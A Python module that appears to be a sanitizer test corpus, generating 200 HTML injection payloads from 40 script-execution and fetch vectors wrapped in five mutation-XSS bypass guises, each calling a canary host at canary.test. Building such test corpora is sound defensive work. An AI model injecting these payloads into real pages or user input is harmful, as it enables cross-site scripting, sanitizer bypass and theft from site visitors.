"""HTML that would run or fetch something: 40 ways, each in five guises. `{n}` is the payload's number."""

PING = "new Image().src=`http://canary.test/ran/{n}`"
FETCH = "http://canary.test/fetched/{n}"
WAYS = (
    f"<script>{PING}</script>",
    f"<script src='{FETCH}'></script>",
    f"<img src=x: onerror='{PING}'>",
    f"<svg onload='{PING}'></svg>",
    f"<svg><script>{PING}</script></svg>",
    f"<svg><animate onbegin='{PING}' attributeName=x dur=1s></svg>",
    f"<svg><set onbegin='{PING}' attributeName=x to=1></svg>",
    f"<svg><image href='{FETCH}'></image></svg>",
    f"<svg><use href='{FETCH}#a'></use></svg>",
    f"<svg><style>@import '{FETCH}';</style></svg>",
    f"<math><mtext><img src=x: onerror='{PING}'></mtext></math>",
    f"<math href='javascript:{PING}'>x</math>",
    f"<details open ontoggle='{PING}'>x</details>",
    f"<video src=x: onerror='{PING}'></video>",
    f"<video src='{FETCH}' autoplay></video>",
    f"<video poster='{FETCH}'></video>",
    f"<audio src='{FETCH}' autoplay></audio>",
    f"<video><source src=x: onerror='{PING}'></video>",
    f"<iframe src='{FETCH}'></iframe>",
    f"<iframe srcdoc='<script>{PING}</script>'></iframe>",
    f"<iframe src='javascript:{PING}'></iframe>",
    f"<object data='{FETCH}'></object>",
    f"<embed src='{FETCH}'>",
    f"<link rel=stylesheet href='{FETCH}'>",
    f"<link rel=prefetch href='{FETCH}'>",
    f"<style>@import '{FETCH}';</style>",
    f"<style>*{{{{background: url({FETCH})}}}}</style>",
    f"<div style='background: url({FETCH})'>x</div>",
    f"<div style='background-image: url({FETCH})'>x</div>",
    f"<ul style='list-style: url({FETCH})'><li>x</li></ul>",
    f"<div style='border-image: url({FETCH}) 1; border-width: 1px; border-style: solid'>x</div>",
    f"<table background='{FETCH}'><tr><td>x</td></tr></table>",
    f"<img srcset='{FETCH} 1x' alt=x>",
    f"<picture><source srcset='{FETCH}'><img alt=x></picture>",
    f"<input type=image src='{FETCH}'>",
    f"<input autofocus onfocus='{PING}'>",
    f"<a href='javascript:{PING}' id=x tabindex=0 autofocus onfocus='{PING}'>x</a>",
    f"<body background='{FETCH}' onload='{PING}'>",
    f"<meta http-equiv=refresh content='0; url={FETCH}'>",
    f"<template><script>{PING}</script></template><base href='{FETCH}/'><img src='x' onerror='{PING}'>",
)
GUISES = (
    "{way}",
    "<p title='</p>'>x</p>{way}",
    "<svg><p><style><g title='</style>{way}'></style></p></svg>{way}",
    "<math><mtext><table><mglyph><style><!--</style>{way}<!-- --></table></mtext></math>",
    "<noscript><p title='</noscript>{way}'></noscript><form><math><mtext></form><form>{way}",
)
PAYLOADS = [
    guise.replace("{way}", way).replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")
    for number, (guise, way) in enumerate((guise, way) for way in WAYS for guise in GUISES)
]
